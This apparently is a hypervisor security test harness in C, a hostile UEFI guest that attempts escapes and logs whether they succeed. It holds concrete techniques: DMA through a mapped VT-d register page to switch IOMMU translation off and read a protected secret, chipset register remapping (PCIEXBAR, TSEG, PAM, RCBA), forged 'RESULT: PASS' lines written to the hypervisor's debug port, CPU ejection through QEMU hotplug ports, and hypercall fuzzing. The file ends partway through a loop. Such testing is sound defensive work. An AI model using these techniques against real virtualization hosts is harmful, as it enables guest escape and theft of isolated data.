/* HOSTILE.EFI, the platform's ways out: the DDI's mappings, PCI configuration (the chipset's
 * own registers), I/O ports (the hypervisor's channel), the hypercall ABI, a second CPU
 * racing the hypervisor's checks, and device DMA to every sensitive page. */
#include "guest/hostile/hostile.h"

#include "common/edu.h"
#include "guest/lib/guest.h"
#include "iommu/prng.h"
#include "common/report.h"

#define XFER 64u

static IOMMU_MAP_PHYSICAL_ADDRESS contiguous(uint64_t pa, uint64_t bytes)
{
    IOMMU_MAP_PHYSICAL_ADDRESS m = {.MapType = MapPhysicalAddressTypeContiguousRange};
    m.ContiguousRange.Base.QuadPart = (LONGLONG)pa;
    m.ContiguousRange.Size = bytes;
    return m;
}

static bool nonzero(const volatile uint8_t *p, unsigned n)
{
    for (unsigned i = 0; i < n; i++)
        if (p[i])
            return true;
    return false;
}

static uint64_t get64(const volatile uint8_t *p)
{
    uint64_t v = 0;
    for (unsigned i = 0; i < 8; i++)
        v |= (uint64_t)p[i] << (8 * i);
    return v;
}

static uint32_t get32(const volatile uint8_t *p)
{
    return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

/* A DDI flow for edu: its DMA device, a Translate domain with the Buddy allocator, attached. */
struct flow {
    PIOMMU_DMA_DEVICE dev;
    PIOMMU_DMA_DOMAIN dom;
    DEVICE_OBJECT pdo;
    NTSTATUS st;
};

static bool flow_open(struct hostile *h, struct flow *f)
{
    DMA_IOMMU_INTERFACE_V2 *v2 = &h->ex.V2;
    *f = (struct flow){0};
    IommuPciDeviceObject(&f->pdo, h->o->edu[0].segment, h->o->edu[0].bus, h->o->edu[0].device, h->o->edu[0].function);
    IOMMU_DMA_DOMAIN_CREATION_FLAGS none = {.AsUlonglong = 0};
    IOMMU_DMA_LOGICAL_ALLOCATOR_CONFIG buddy = {.LogicalAllocatorType = IommuDmaLogicalAllocatorBuddy,
                                                .BuddyAllocatorConfig = {.AddressWidth = 39}};
    f->st = v2->CreateDevice(&f->pdo, NULL, &f->dev);
    if (NT_SUCCESS(f->st))
        f->st = v2->CreateDomainEx(DomainTypeTranslate, none, &buddy, NULL, &f->dom);
    if (NT_SUCCESS(f->st))
        f->st = v2->AttachDeviceEx(f->dom, f->dev);
    return NT_SUCCESS(f->st);
}

static void flow_close(struct hostile *h, struct flow *f)
{
    DMA_IOMMU_INTERFACE_V2 *v2 = &h->ex.V2;
    if (f->dev)
        v2->DetachDeviceEx(f->dev);
    if (f->dom)
        v2->DeleteDomain(f->dom);
    if (f->dev)
        v2->DeleteDevice(f->dev);
    *f = (struct flow){0};
}

static uint64_t map_rw(struct hostile *h, struct flow *f, uint64_t pa, uint64_t bytes, NTSTATUS *st)
{
    IOMMU_MAP_PHYSICAL_ADDRESS m = contiguous(pa, bytes);
    IOMMU_DMA_LOGICAL_ADDRESS iova = 0;
    *st = h->ex.V2.MapLogicalRangeEx(f->dom, IOMMU_ACCESS_READ | IOMMU_ACCESS_WRITE, &m, NULL, NULL, NULL, &iova);
    return NT_SUCCESS(*st) ? iova : 0;
}

/* ---- 3. ddi-map ---- */

struct target {
    uint64_t pa;
    const char *what;
};

void class_ddi_map(struct hostile *h)
{
    const char *C = "ddi-map";
    if (!h->have_ddi || !h->o->edus) {
        hl(h, C, "no DDI protocol or no edu: not tried");
        audit(h, C, 0);
        return;
    }
    DMA_IOMMU_INTERFACE_V2 *v2 = &h->ex.V2;
    struct flow f;
    if (!flow_open(h, &f)) {
        hl(h, C, "edu's DMA device and a Translate domain: 0x%x: not tried", (unsigned)f.st);
        flow_close(h, &f);
        audit(h, C, 0);
        return;
    }
    PIOMMU_DMA_DOMAIN d1 = NULL;
    NTSTATUS st1 = h->v1.CreateDomain(TRUE, &d1);
    hl(h, C, "edu in a Translate domain; a V1 OS-managed domain for identity maps (0x%x)", (unsigned)st1);
    const struct target targets[] = {
        {h->o->iommu_base[0], "the VT-d registers"},
        {HOSTILE_APIC, "the local APIC page (the MSI window)"},
        {HOSTILE_IOAPIC, "the IOAPIC"},
        {HOSTILE_ECAM, "ECAM (the host bridge's configuration)"},
        {h->target_pa, "the secret's page"},
        {h->o->region_base, "the region's first page"},
        {63ull << 30, "63 GiB, past RAM"},
    };
    static PFN_NUMBER frames[1];
    static uint64_t mdl_space[(sizeof(MDL) + sizeof(PFN_NUMBER) + 7) / 8];
    uint64_t vtd_iova = 0, secret_iova = 0;
    bool vtd_mapped = false, secret_mapped = false;
    for (unsigned i = 0; i < sizeof targets / sizeof targets[0]; i++) {
        uint64_t pa = targets[i].pa;
        NTSTATUS sc;
        uint64_t iova = map_rw(h, &f, pa, 4096, &sc);
        frames[0] = pa >> 12;
        IOMMU_MAP_PHYSICAL_ADDRESS mp = {.MapType = MapPhysicalAddressTypePfn, .PfnArray = {frames, 1}};
        IOMMU_DMA_LOGICAL_ADDRESS iova_p = 0;
        NTSTATUS sp = v2->MapLogicalRangeEx(f.dom, IOMMU_ACCESS_READ | IOMMU_ACCESS_WRITE, &mp, NULL, NULL, NULL, &iova_p);
        if (NT_SUCCESS(sp))
            v2->UnmapLogicalRange(f.dom, iova_p, 1);
        NTSTATUS si = STATUS_NOT_SUPPORTED;
        if (d1) {
            MDL *mdl = (MDL *)mdl_space;
            MmInitializeMdl(mdl, (PVOID)(uintptr_t)pa, 4096);
            MmGetMdlPfnArray(mdl)[0] = pa >> 12;
            si = h->v1.MapIdentityRange(d1, IOMMU_ACCESS_READ | IOMMU_ACCESS_WRITE, mdl);
            if (NT_SUCCESS(si))
                h->v1.UnmapIdentityRange(d1, mdl);
        }
        bool any = NT_SUCCESS(sc) || NT_SUCCESS(sp) || NT_SUCCESS(si);
        attempt(h, C, any, "%s 0x%lx: MapLogicalRangeEx contiguous 0x%x%s, PFN list 0x%x, V1 MapIdentityRange 0x%x",
                targets[i].what, pa, (unsigned)sc, NT_SUCCESS(sc) ? " (mapped)" : "", (unsigned)sp, (unsigned)si);
        if (NT_SUCCESS(sc) && i == 0)
            vtd_iova = iova, vtd_mapped = true;
        else if (NT_SUCCESS(sc) && pa == h->target_pa)
            secret_iova = iova, secret_mapped = true;
        else if (NT_SUCCESS(sc))
            v2->UnmapLogicalRange(f.dom, iova, 1);
    }

    uint64_t claimed = 0;
    NTSTATUS sd;
    uint64_t dma_iova = map_rw(h, &f, h->dma_pa, 4096, &sd);
    bool dma_mapped = NT_SUCCESS(sd);
    volatile uint8_t *buf = h->dma;
    if (secret_mapped && dma_mapped) {
        __builtin_memset((void *)h->dma, 0, 4096);
        bool ok = edu_move(h, secret_iova, 16, false) && edu_move(h, dma_iova + 0x200, 16, true);
        attempt(h, C, ok && nonzero(buf + 0x200, 16), "edu DMA read through the mapping of the secret's page: 0x%lx",
                get64(buf + 0x200));
        if (nonzero(buf + 0x200, 8))
            claimed = get64(buf + 0x200);
        v2->UnmapLogicalRange(f.dom, secret_iova, 1);
    }
    if (vtd_mapped && dma_mapped) {
        /* The exploit: the registers by DMA, then translation off, then the region. */
        __builtin_memset((void *)h->dma, 0, 4096);
        bool ok = edu_move(h, vtd_iova, 0x40, false) && edu_move(h, dma_iova, 0x40, true);
        uint32_t gsts = get32(buf + 0x1C);
        attempt(h, C, ok && nonzero(buf, 0x40),
                "edu DMA read of the VT-d registers through the mapping: VER 0x%x CAP 0x%lx ECAP 0x%lx GSTS 0x%x", get32(buf),
                get64(buf + 8), get64(buf + 0x10), gsts);
        if (gsts & (1u << 31)) {
            uint32_t gcmd = (gsts & 0x96FFFFFFu) & ~(1u << 31);
            __builtin_memcpy((void *)(h->dma + 0x100), &gcmd, 4);
            ok = edu_move(h, dma_iova + 0x100, 4, false) && edu_move(h, vtd_iova + 0x18, 4, true);
            stall_us(1000);
            /* Device addresses are physical now, if that worked. */
            uint64_t marker = HOSTILE_MARKER ^ 3;
            __builtin_memcpy((void *)(h->dma + 0x300), &marker, 8);
            __builtin_memset((void *)(h->dma + 0x400), 0, 64);
            bool w = edu_move(h, h->dma_pa + 0x300, 8, false) && edu_move(h, h->target_pa + 8, 8, true);
            bool r = edu_move(h, h->target_pa, 16, false) && edu_move(h, h->dma_pa + 0x400, 16, true);
            bool got = nonzero(buf + 0x400, 16);
            bool g2 = edu_move(h, h->o->iommu_base[0], 0x40, false) && edu_move(h, h->dma_pa + 0x500, 0x40, true);
            uint32_t gsts2 = get32(buf + 0x51C);
            attempt(h, C, got || (g2 && !(gsts2 & (1u << 31)) && nonzero(buf + 0x500, 0x40)),
                    "edu DMA write GCMD = 0x%x (translation off) through the mapping: %s; then untranslated: marker to "
                    "0x%lx %s, read at 0x%lx: 0x%lx, GSTS by physical DMA 0x%x",
                    gcmd, ok ? "done" : "timed out", h->target_pa + 8, w ? "sent" : "timed out", h->target_pa,
                    get64(buf + 0x400), gsts2);
            if (got && r)
                claimed = get64(buf + 0x400);
            if (got || (g2 && nonzero(buf + 0x500, 0x40) && !(gsts2 & (1u << 31)))) {
                audit(h, C, claimed);
                /* Translation back on, by physical DMA now. */
                uint32_t on = (gsts & 0x96FFFFFFu) | (1u << 31);
                __builtin_memcpy((void *)(h->dma + 0x100), &on, 4);
                ok = edu_move(h, h->dma_pa + 0x100, 4, false) && edu_move(h, h->o->iommu_base[0] + 0x18, 4, true);
                stall_us(1000);
                __builtin_memset((void *)(h->dma + 0x600), 0, 16);
                bool back = edu_move(h, h->target_pa, 16, false) && edu_move(h, h->dma_pa + 0x600, 16, true) &&
                            !nonzero(buf + 0x600, 16);
                hl(h, C, "translation put back on (GCMD 0x%x by physical DMA): %s; a DMA read of the secret now %s", on,
                   ok ? "done" : "timed out", back ? "arrives as zeroes (faults)" : "STILL ARRIVES");
                v2->UnmapLogicalRange(f.dom, vtd_iova, 1);
                v2->UnmapLogicalRange(f.dom, dma_iova, 1);
                if (d1)
                    h->v1.DeleteDomain(d1);
                flow_close(h, &f);
                return;
            }
        }
    }
    if (vtd_mapped)
        v2->UnmapLogicalRange(f.dom, vtd_iova, 1);
    if (dma_mapped)
        v2->UnmapLogicalRange(f.dom, dma_iova, 1);
    if (d1)
        h->v1.DeleteDomain(d1);
    flow_close(h, &f);
    audit(h, C, claimed);
}

/* ---- 6. pci-config ---- */

static uint32_t cf8(unsigned bus, unsigned dev, unsigned fn, unsigned reg)
{
    return 0x80000000u | bus << 16 | dev << 11 | fn << 8 | (reg & 0xFC);
}

static uint32_t cfg_read(uint32_t addr)
{
    houtl(0xCF8, addr);
    return hinl(0xCFC);
}

static void cfg_write(uint32_t addr, uint32_t v)
{
    houtl(0xCF8, addr);
    houtl(0xCFC, v);
}

static uint64_t ecam(unsigned bus, unsigned dev, unsigned fn, unsigned reg)
{
    return HOSTILE_ECAM + ((uint64_t)bus << 20 | dev << 15 | fn << 12 | (reg & 0xFFC));
}

typedef uint32_t (*blob_fn)(uint64_t a, uint32_t new_value, uint32_t old_value);

/* One register, written by port or ECAM, read back, and put back by port if it took. */
static void cfg_attack(struct hostile *h, const char *what, uint32_t addr, uint64_t ecam_pa, uint32_t value, bool by_ecam,
                       blob_fn blob)
{
    const char *C = "pci-config";
    uint32_t before = cfg_read(addr), seen;
    uint64_t g = gp_count();
    bool irq = irq_save();
    if (blob) {
        hostile_gp_skip = by_ecam ? 2 : 1;
        seen = blob(by_ecam ? ecam_pa : addr, value, before);
    } else {
        if (by_ecam)
            hmmio_write(ecam_pa, value);
        else
            cfg_write(addr, value);
        seen = cfg_read(addr);
        if (seen != before) {
            /* It took: let the hypervisor look at itself while the chipset is moved (with
             * ECAM or RCBA over its registers it reads them wrong), then put it back. */
            audit(h, C, 0);
            cfg_write(addr, before);
        }
    }
    irq_restore(irq);
    uint32_t after = cfg_read(addr);
    if (after != before)
        cfg_write(addr, before), after = cfg_read(addr);
    if (after != before && addr == cf8(0, 0, 0, 0x60) && (after & 1)) {
        /* PCIEXBAR moved and the ports are refused: put it back through the window it moved to. */
        hmmio_write((after & 0xF0000000u) + 0x60, before);
        after = cfg_read(addr);
    }
    if (after != before && by_ecam)
        hmmio_write(ecam_pa, before), after = cfg_read(addr);
    bool took = seen != before && seen == value;
    attempt(h, C, took || (seen != before && seen != 0xFFFFFFFFu),
            "%s by %s: 0x%x -> write 0x%x%s: reads 0x%x%s; now 0x%x", what, by_ecam ? "ECAM" : "ports 0xcf8/0xcfc",
            before, value, gp_count() != g ? " (#GP)" : "", seen, blob ? " (inside the blob)" : "", after);
}

void class_pci_config(struct hostile *h)
{
    const char *C = "pci-config";
    install_gp(true);
    /* The TSEG and PAM writes run from a blob in a low page that touches no memory until they
     * are undone: TSEG hides the top of low RAM, where the firmware's stack may be. */
    EFI_PHYSICAL_ADDRESS low = 0xFFFFFF;
    blob_fn blob_cfg = NULL, blob_mmio = NULL;
    if (!EFI_ERROR(uefi_call_wrapper(BS->AllocatePages, 4, AllocateMaxAddress, EfiLoaderCode, 1, &low))) {
        size_t n = (size_t)(hostile_blob_end - hostile_blob_start);
        __builtin_memcpy((void *)(uintptr_t)low, hostile_blob_start, n);
        blob_cfg = (blob_fn)(uintptr_t)(low + (size_t)(hostile_blob_cfg - hostile_blob_start));
        blob_mmio = (blob_fn)(uintptr_t)(low + (size_t)(hostile_blob_mmio - hostile_blob_start));
    } else {
        low = 0;
    }
    uint32_t bar_lo = cfg_read(cf8(0, 0, 0, 0x60)), bar_hi = cfg_read(cf8(0, 0, 0, 0x64));
    hl(h, C, "host bridge 00:00.0: PCIEXBAR 0x%x_%08x; LPC 00:1f.0: PMBASE 0x%x, RCBA 0x%x", bar_hi, bar_lo,
       cfg_read(cf8(0, 0x1f, 0, 0x40)), cfg_read(cf8(0, 0x1f, 0, 0xF0)));
    /* PCIEXBAR over the VT-d page: 128 MiB at 0xF8000000 covers 0xFED90000. */
    uint32_t moved = 0xF8000000u | (1u << 1) | 1u;
    cfg_attack(h, "PCIEXBAR (00:00.0 0x60) to 0xf8000000, 128 MiB, over the VT-d page", cf8(0, 0, 0, 0x60),
               ecam(0, 0, 0, 0x60), moved, false, NULL);
    cfg_attack(h, "PCIEXBAR (00:00.0 0x60) to 0xf8000000, 128 MiB, over the VT-d page", cf8(0, 0, 0, 0x60),
               ecam(0, 0, 0, 0x60), moved, true, NULL);
    /* SMRAM (0x9D: G_SMRAME) and ESMRAMC (0x9E: T_EN, 1 MiB): dword 0x9C. */
    uint32_t smram = cfg_read(cf8(0, 0, 0, 0x9C));
    uint32_t tseg = (smram & 0xFF0000FFu) | ((((smram >> 8) & 0xFF) | 0x08) << 8) |
                    ((((smram >> 16) & 0xF8) | 0x01) << 16);
    if (blob_cfg) {
        cfg_attack(h, "SMRAM 0x9d G_SMRAME and ESMRAMC 0x9e T_EN (TSEG on)", cf8(0, 0, 0, 0x9C), ecam(0, 0, 0, 0x9C), tseg,
                   false, blob_cfg);
        cfg_attack(h, "SMRAM 0x9d G_SMRAME and ESMRAMC 0x9e T_EN (TSEG on)", cf8(0, 0, 0, 0x9C), ecam(0, 0, 0, 0x9C), tseg,
                   true, blob_mmio);
        /* PAM0-6 (0x90-0x96): DRAM off for the legacy BIOS areas. */
        cfg_attack(h, "PAM0-3 (0x90-0x93) all DRAM-disabled", cf8(0, 0, 0, 0x90), ecam(0, 0, 0, 0x90), 0, false, blob_cfg);
        uint32_t pam4 = cfg_read(cf8(0, 0, 0, 0x94));
        cfg_attack(h, "PAM4-6 (0x94-0x96) all DRAM-disabled", cf8(0, 0, 0, 0x94), ecam(0, 0, 0, 0x94),
                   pam4 & 0xFF000000u, true, blob_mmio);
    } else {
        hl(h, C, "no low page for the blob: TSEG and PAM not tried");
    }
    /* The LPC bridge: PMBASE elsewhere, RCBA over the VT-d page. */
    uint32_t pmbase = cfg_read(cf8(0, 0x1f, 0, 0x40));
    cfg_attack(h, "LPC PMBASE (00:1f.0 0x40) to 0xaf00", cf8(0, 0x1f, 0, 0x40), ecam(0, 0x1f, 0, 0x40),
               (pmbase & ~0xFF80u) | 0xAF00u, false, NULL);
    cfg_attack(h, "LPC PMBASE (00:1f.0 0x40) to 0xaf00", cf8(0, 0x1f, 0, 0x40), ecam(0, 0x1f, 0, 0x40),
               (pmbase & ~0xFF80u) | 0xAF00u, true, NULL);
    uint32_t rcba_over = (uint32_t)(h->o->iommu_base[0] & 0xFFFFC000u) | 1u;
    cfg_attack(h, "LPC RCBA (00:1f.0 0xf0) over the VT-d page", cf8(0, 0x1f, 0, 0xF0), ecam(0, 0x1f, 0, 0xF0), rcba_over,
               false, NULL);
    cfg_attack(h, "LPC RCBA (00:1f.0 0xf0) over the VT-d page", cf8(0, 0x1f, 0, 0xF0), ecam(0, 0x1f, 0, 0xF0), rcba_over,
               true, NULL);
    /* CONFIG_ADDRESS is one register for every CPU: after a read of PCIEXBAR (which the
     * hypervisor may do for us by selecting it in the real register), clear the enable bit
     * in ours and write the data port, hoping it goes to whatever is still selected. */
    {
        uint32_t before = cfg_read(cf8(0, 0, 0, 0x60));
        houtl(0xCF8, cf8(0, 0, 0, 0x60) & ~0x80000000u);
        houtl(0xCFC, moved);
        uint32_t after = cfg_read(cf8(0, 0, 0, 0x60));
        if (after != before) {
            audit(h, C, 0); /* while ECAM is over the VT-d page */
            cfg_write(cf8(0, 0, 0, 0x60), before);
        }
        attempt(h, C, after != before,
                "PCIEXBAR through a stale CONFIG_ADDRESS (read it, clear the enable bit, write 0xcfc): 0x%x -> 0x%x%s",
                before, after, after != before ? ", put back" : "");
    }
    hl(h, C, "after: PCIEXBAR 0x%x, SMRAM/ESMRAMC dword 0x%x, PAM 0x%x 0x%x, PMBASE 0x%x, RCBA 0x%x",
       cfg_read(cf8(0, 0, 0, 0x60)), cfg_read(cf8(0, 0, 0, 0x9C)), cfg_read(cf8(0, 0, 0, 0x90)),
       cfg_read(cf8(0, 0, 0, 0x94)), cfg_read(cf8(0, 0x1f, 0, 0x40)), cfg_read(cf8(0, 0x1f, 0, 0xF0)));
    if (low)
        hostile_free(low, 1);
    install_gp(false);
    audit(h, C, 0);
}

/* ---- 7. ports ---- */

static size_t slen(const char *s)
{
    size_t n = 0;
    while (s[n])
        n++;
    return n;
}

static unsigned port_string(uint16_t port, const char *s)
{
    uint64_t g = gp_count();
    for (unsigned i = 0; s[i]; i++)
        houtb(port, (uint8_t)s[i]);
    return (unsigned)(gp_count() - g);
}

static unsigned port_rep(uint16_t port, const char *s)
{
    uint64_t g = gp_count();
    size_t n = 0;
    while (s[n])
        n++;
    hostile_gp_skip = 2; /* F3 6E */
    __asm__ volatile("rep outsb" : "+S"(s), "+c"(n) : "d"(port) : "memory");
    return (unsigned)(gp_count() - g);
}

/* Cpu 1 forges at the channel's port while cpu 0 does: each of its bytes is a refusal the
 * hypervisor prints on the channel at the same time as cpu 0's, so the channel must keep
 * two CPUs' lines whole (its lock) or the verdict could be garbled. */
struct channel_race {
    volatile uint32_t go, started, done;
    uint64_t deadline;
};

static VOID EFIAPI forge_on_ap(VOID *arg)
{
    struct channel_race *r = arg;
    static const char *const forged[] = {"\nRESULT: PASS (forged on cpu 1)\n", "\nhv: audit 96 (forged on cpu 1): intact\n"};
    r->started = 1;
    while (!r->go && tsc_read() < r->deadline)
        __asm__ volatile("pause");
    for (unsigned i = 0; i < 2; i++)
        for (const char *s = forged[i]; *s; s++)
            houtb(0xE9, (uint8_t)*s);
    r->done = 1;
}

void class_ports(struct hostile *h)
{
    const char *C = "ports";
    static struct channel_race race;
    race = (struct channel_race){.deadline = tsc_read() + 10ull * 1000 * 1000 * hostile_tsc_per_us};
    EFI_STATUS race_st = EFI_UNSUPPORTED;
    if (h->cpus > 1 && h->mp) {
        EFI_EVENT ev = NULL;
        race_st = uefi_call_wrapper(BS->CreateEvent, 5, 0, 0, NULL, NULL, &ev);
        if (!EFI_ERROR(race_st))
            race_st = h->mp->startup_this_ap(h->mp, forge_on_ap, 1, ev, 0, &race, NULL);
        for (unsigned i = 0; i < 1000 && !EFI_ERROR(race_st) && !race.started; i++)
            stall_us(100);
        race.go = 1;
    }
    install_gp(true);
    static const char *const forged[] = {"RESULT: PASS\n", "hv: audit 99 (forged): intact\n"};
    uint8_t e9 = hinb(0xE9);
    attempt(h, C, e9 == 0xE9, "in 0xE9 (QEMU's debug console reads back 0xe9 when reachable): 0x%x", e9);
    const char *fate = e9 == 0xE9 ? "written" : "no #GP: dropped or written, the hypervisor's channel tells";
    for (unsigned i = 0; i < 2; i++) {
        unsigned gps = port_string(0xE9, "\n");
        gps += port_string(0xE9, forged[i]);
        attempt(h, C, gps == 0 && e9 == 0xE9, "out 0xE9, byte by byte, \"%.*s\": %u #GP%s%s",
                (int)(slen(forged[i]) - 1), forged[i], gps, gps ? "" : ", ", gps ? "" : fate);
    }
    unsigned gps = port_rep(0xE9, "\nhv: audit 98 (forged by rep outsb): intact\n");
    attempt(h, C, gps == 0 && e9 == 0xE9, "rep outsb to 0xE9, \"hv: audit 98 (forged by rep outsb): intact\": %u #GP%s%s",
            gps, gps ? "" : ", ", gps ? "" : fate);
    uint8_t lsr = hinb(0x2FD), lcr = hinb(0x2FB);
    for (unsigned i = 0; i < 2; i++) {
        gps = port_string(0x2F8, "\n");
        gps += port_string(0x2F8, forged[i]);
        attempt(h, C, gps == 0 && lsr != 0xFF,
                "out 0x2F8 (COM2; LSR 0x%x, LCR 0x%x), byte by byte, \"%.*s\": %u #GP", lsr, lcr,
                (int)(slen(forged[i]) - 1), forged[i], gps);
    }
    install_gp(false);
    if (h->cpus > 1) {
        for (unsigned i = 0; i < 10000 && race.started && !race.done; i++)
            stall_us(100);
        hl(h, C, "cpu 1 forged at 0xE9 at the same time (StartupThisAP non-blocking 0x%lx): %s", (uint64_t)race_st,
           race.done ? "done" : race.started ? "NOT DONE" : "NOT STARTED");
    }
    /* QEMU's CPU hotplug block (found by an engineer who read only the docs): switch it to
     * the modern interface, select the last CPU and eject it, which would take that CPU
     * out of the machine and so out of the hypervisor. */
    if (h->cpus > 1) {
        uint32_t last = (uint32_t)h->cpus - 1;
        houtb(0xCD8, 0);
        houtl(0xCD8, last);
        uint8_t flags = hinb(0xCDC);
        houtb(0xCDC, 8);
        houtl(0xCD8, last);
        uint8_t after = hinb(0xCDC);
        bool alive = every_ap_answers(h, C, "the CPU eject");
        attempt(h, C, !alive, "CPU hotplug (ports 0xCD8, 0xCDC): eject CPU %u (flags 0x%x, after 0x%x): %s", last, flags,
                after, alive ? "it still answers" : "IT IS GONE");
    } else {
        hl(h, C, "CPU hotplug eject: skipped: one CPU, which the eject would take from the firmware too");
    }
    /* CMOS byte 0x0F tells the firmware after a CPU reset to resume from S3 through the
     * waking vector, guest code outside the hypervisor, with RAM as it was. */
    {
        houtb(0x70, 0x8F);
        uint8_t before = hinb(0x71);
        houtb(0x70, 0x8F);
        houtb(0x71, 0xFE);
        houtb(0x70, 0x8F);
        uint8_t after = hinb(0x71);
        if (after != before) {
            houtb(0x70, 0x8F);
            houtb(0x71, before);
        }
        houtb(0x70, 0x0D); /* NMI back on */
        attempt(h, C, after == 0xFE && before != 0xFE, "CMOS shutdown status (index 0x0F) = 0xFE (S3 resume): 0x%x -> 0x%x",
                before, after);
    }
    /* COM1 is the guest's own: anything goes, and proves nothing. */
    sink_printf(out, "RESULT: PASS (forged by the guest on COM1, its own console)\n");
    sink_printf(out, "hv: audit 97 (forged on COM1): intact\n");
    hl(h, C, "COM1: the two lines above were the guest's, on its own console");
    audit(h, C, 0);
}

/* ---- 11. flood ---- */

/* The guest decides how often it is refused: reads of thousands of different pages of the
 * region, each a nested page fault the hypervisor refuses with #GP. Were each printed, the
 * guest could fill the channel (and the disk under hv.log) at will; the hypervisor prints a
 * bounded number (docs/security.md). */
enum { FLOOD_PAGES = 2500 };

void class_flood(struct hostile *h)
{
    const char *C = "flood";
    uint64_t pages = (h->region_end - h->o->region_base) >> 12;
    if (pages > FLOOD_PAGES)
        pages = FLOOD_PAGES;
    install_gp(true);
    uint64_t read = 0;
    for (uint64_t i = 0; i < pages; i++) {
        uint64_t before = gp_count();
        (void)hmmio_read(h->o->region_base + (i << 12));
        read += gp_count() == before;
    }
    install_gp(false);
    attempt(h, C, read != 0, "read %lu different pages of the region: %lu read, the rest #GP", pages, read);
    audit(h, C, 0);
}

/* ---- 8. hypercall ---- */

struct tally {
    uint32_t status[24];
    unsigned count[24], n;
};

static void tally_add(struct tally *t, uint64_t st)
{
    for (unsigned i = 0; i < t->n; i++)
        if (t->status[i] == (uint32_t)st) {
            t->count[i]++;
            return;
        }
    if (t->n < 24) {
        t->status[t->n] = (uint32_t)st;
        t->count[t->n++] = 1;
    }
}

static void tally_print(struct hostile *h, const char *C, const char *what, const struct tally *t)
{
    char line[400];
    size_t at = fmt_format(line, sizeof line, "%s:", what);
    for (unsigned i = 0; i < t->n && at < sizeof line; i++)
        at += fmt_format(line + at, sizeof line - at, " 0x%x x%u", t->status[i], t->count[i]);
    hl(h, C, "%s", line);
}

void class_hypercall(struct hostile *h)
{
    const char *C = "hypercall";
    uint64_t buf_pa = 0;
    uint8_t *buf = hostile_pages(16, &buf_pa);
    if (!buf) {
        hl(h, C, "no buffer: not tried");
        audit(h, C, 0);
        return;
    }
    const struct loader_handoff *o = h->o;
    struct tally fixed = {0};
    const struct {
        uint64_t at;
        const char *what;
    } blocks[] = {
        {o->region_base, "the region's start"},
        {h->region_end - 8, "the region's last word"},
        {o->region_base - 8, "straddling the region's start"},
        {h->region_end - 16, "straddling the region's end"},
        {h->target_pa, "the secret's page"},
        {o->image_base + 4096, "the hypervisor's code"},
        {buf_pa + 4, "unaligned, in RAM"},
        {o->iommu_base[0], "the VT-d registers"},
        {0xFED90000ull, "0xfed90000"},
        {HOSTILE_APIC, "the local APIC"},
        {1ull << 40, "past RAM (1 TiB)"},
        {~0ull - 7, "the last word of the address space"},
    };
    for (unsigned i = 0; i < sizeof blocks / sizeof blocks[0]; i++) {
        uint64_t v = hvmcall(hc_rax(HC_VERSION), blocks[i].at, sizeof(struct hc_version_block));
        uint64_t s = hvmcall(hc_rax(HC_STATS), blocks[i].at, sizeof(struct hc_stats_block));
        uint64_t p = hvmcall(hc_rax(HC_POLL), blocks[i].at, sizeof(struct hc_poll_block));
        tally_add(&fixed, v), tally_add(&fixed, s), tally_add(&fixed, p);
        attempt(h, C, v == 0 || s == 0 || p == 0, "block at %s 0x%lx: HC_VERSION 0x%lx, HC_STATS 0x%lx, HC_POLL 0x%lx",
                blocks[i].what, blocks[i].at, v, s, p);
    }
    /* A poll whose report buffer is the region, from a good block. */
    struct hc_poll_block *pb = (struct hc_poll_block *)buf;
    *pb = (struct hc_poll_block){.buffer = h->target_pa, .capacity = HC_MAX_POLL};
    uint64_t s = hvmcall(hc_rax(HC_POLL), buf_pa, sizeof *pb);
    tally_add(&fixed, s);
    attempt(h, C, s == 0 && pb->count > 0, "HC_POLL with its report buffer at the secret's page: 0x%lx (%u written)", s,
            pb->count);
    /* A frame list in the region, from a good block. */
    struct hc_map_logical_ex_block *mb = (struct hc_map_logical_ex_block *)buf;
    *mb = (struct hc_map_logical_ex_block){.domain = 0, .permissions = 3, .out_present = 1,
                                           .phys = {.map_type = MapPhysicalAddressTypePfn, .base = h->target_pa, .count = 4}};
    s = hvmcall(hc_rax(HC_MAP_LOGICAL_RANGE_EX), buf_pa, sizeof *mb);
    tally_add(&fixed, s);
    attempt(h, C, s == 0, "HC_MAP_LOGICAL_RANGE_EX with its frame list in the region: 0x%lx", s);
    /* Wrong sizes, unknown calls, another ABI version. */
    static const uint64_t sizes[] = {0, 8, 16, 32, 4096, 1ull << 32};
    for (unsigned i = 0; i < sizeof sizes / sizeof sizes[0]; i++) {
        __builtin_memset(buf, 0, 64);
        s = hvmcall(hc_rax(HC_VERSION), buf_pa, sizes[i]);
        tally_add(&fixed, s);
        attempt(h, C, s == 0, "HC_VERSION with size %lu: 0x%lx", sizes[i], s);
    }
    static const uint64_t raxes[] = {HC_CALLS, HC_CALLS + 1, 0xFFFF, 100, (2ull << 16) | HC_VERSION,
                                     (1ull << 32) | (1ull << 16) | HC_VERSION, ~0ull};
    for (unsigned i = 0; i < sizeof raxes / sizeof raxes[0]; i++) {
        s = hvmcall(raxes[i], buf_pa, sizeof(struct hc_version_block));
        tally_add(&fixed, s);
        attempt(h, C, s == 0, "RAX 0x%lx (unknown call or another ABI version): 0x%lx", raxes[i], s);
    }
    /* HC_GUEST_EXIT with a bad block: it must not end the machine. */
    const uint64_t exits[] = {o->region_base, h->target_pa, h->region_end - 8, o->iommu_base[0], HOSTILE_APIC, 1ull << 40};
    for (unsigned i = 0; i < sizeof exits / sizeof exits[0]; i++) {
        s = hvmcall(hc_rax(HC_GUEST_EXIT), exits[i], sizeof(struct hc_guest_exit_block));
        tally_add(&fixed, s);
        attempt(h, C, s == 0, "HC_GUEST_EXIT with its block at 0x%lx: 0x%lx, the machine goes on", exits[i], s);
    }
    for (unsigned i = 0; i < 2; i++) {
        uint64_t size = i ? 16 : 0;
        s = hvmcall(hc_rax(HC_GUEST_EXIT), buf_pa, size);
        tally_add(&fixed, s);
        attempt(h, C, s == 0, "HC_GUEST_EXIT with size %lu: 0x%lx, the machine goes on", size, s);
    }
    tally_print(h, C, "statuses of the crafted calls", &fixed);

    /* 10,000 random hypercalls (never HC_GUEST_EXIT with a good block, nor HC_AUDIT). */
    uint64_t rng = 0x9E3779B97F4A7C15ull ^ tsc_read();
    if (!rng)
        rng = 1;
    unsigned sizes_of[HC_CALLS] = {0};
    for (unsigned call = 0; call < HC_CALLS; call++) {
        if (call == HC_GUEST_EXIT || call == HC_AUDIT)
            continue;
        for (unsigned size = 8; size <= 256 && !sizes_of[call]; size += 8) {
            __builtin_memset(buf, 0, 256);
            if ((uint32_t)hvmcall(hc_rax(call), buf_pa, size) != (uint32_t)STATUS_INFO_LENGTH_MISMATCH)
